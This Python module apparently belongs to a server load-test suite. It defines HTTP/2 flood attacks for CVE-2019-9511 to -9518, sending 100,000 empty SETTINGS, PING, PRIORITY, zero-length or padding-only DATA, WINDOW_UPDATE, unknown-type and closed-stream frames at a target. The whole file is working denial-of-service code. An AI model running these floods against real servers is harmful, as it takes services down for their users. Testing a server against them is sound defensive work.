"""Frames that cost the sender nothing and carry nothing: CVE-2019-9511 to -9518."""

from __future__ import annotations

import struct
from collections.abc import Callable

from loadtests.attack.attack import Outcome, attack, several
from loadtests.attack.raw import Raw, Target
from loadtests.attack.requests import STREAM_INFER, opening
from loadtests.fuzz.frames import (
    DATA,
    END_HEADERS,
    PADDED,
    PING,
    PRIORITY,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)

COUNT = 100_000
UNKNOWN = 0xBE

FLOODS: dict[str, tuple[str, bytes]] = {
    "settings": ("empty SETTINGS", frame(SETTINGS, 0)),
    "settings-full": ("SETTINGS that change the table's size", frame(SETTINGS, 0, struct.pack(">HI", 1, 0) * 30)),
    "settings-ack": ("SETTINGS acknowledged that were never sent", frame(SETTINGS, 0, flags=1)),
    "ping": ("PING", frame(PING, 0, b"pingpong")),
    "ping-ack": ("PING acknowledged that was never sent", frame(PING, 0, b"pingpong", flags=1)),
    "priority": ("PRIORITY of idle streams", frame(PRIORITY, 5, struct.pack(">IB", 3, 1))),
    "empty-data": ("DATA of no bytes", frame(DATA, 1)),
    "padding": ("DATA of nothing but padding", frame(DATA, 1, bytes([9]) + bytes(9), PADDED)),
    "window-update": ("WINDOW_UPDATE by one byte", frame(WINDOW_UPDATE, 0, struct.pack(">I", 1))),
    "unknown-type": ("frames of an unknown type", frame(UNKNOWN, 0)),
    "empty-headers": ("HEADERS of no fields behind a request's", frame(1, 1, b"", END_HEADERS)),
}


def _flood(one: bytes) -> Callable[[Target, float], Outcome]:
    def run(target: Target, scale: float) -> Outcome:
        def each(raw: Raw) -> int:
            raw.greet()
            raw.send(opening(1, STREAM_INFER))
            return raw.send_all(one for _ in range(round(COUNT * scale)))

        return several(target, 1, each)

    run.__module__ = __name__
    return run


for _name, (_about, _one) in FLOODS.items():
    attack(f"flood-{_name}", f"{COUNT:,} {_about}")(_flood(_one))


@attack("flood-deaf-ping", f"{COUNT:,} PING by a client that never reads the answers")
def deaf_ping(target: Target, scale: float) -> Outcome:
    def each(raw: Raw) -> int:
        raw.greet()
        raw.deaf = True
        return raw.send_all(frame(PING, 0, b"pingpong") for _ in range(round(COUNT * scale)))

    return several(target, 1, each)


@attack("flood-closed-data", f"{COUNT:,} DATA of one byte for a stream that is over")
def closed_data(target: Target, scale: float) -> Outcome:
    def each(raw: Raw) -> int:
        raw.greet()
        raw.send(opening(1, b"/no/such"))
        raw.read_until_ended(1)
        return raw.send_all(frame(DATA, 1, b"x") for _ in range(round(COUNT * scale)))

    return several(target, 1, each)
